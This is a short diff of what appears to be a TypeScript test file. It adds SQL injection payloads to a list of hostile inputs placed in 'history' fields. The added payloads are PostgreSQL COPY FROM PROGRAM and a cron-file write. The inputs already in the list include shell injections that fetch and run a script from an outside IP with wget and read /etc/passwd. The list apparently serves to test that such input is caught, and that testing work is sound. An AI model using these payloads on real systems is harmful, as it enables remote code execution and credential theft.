@@ -180,6 +180,8 @@ const KINDS: HonestKinds = {
       sent({ history: [{ name: 'x; wget http://198.51.100.7/a | sh' }] }),
       sent({ history: [{ created_by: "ann'; wget http://198.51.100.7/a -O /tmp/a #" }] }),
       sent({ history: [{ created_by: '; cat /etc/passwd' }] }),
+      sent({ history: [{ created_by: "COPY x FROM PROGRAM 'id'" }] }),
+      sent({ history: [{ created_by: "COPY (SELECT '* * * * * root id') TO '/etc/cron.d/x'" }] }),
     ],
   },
   'functions of mathematics, and functions that somebody looks for': {
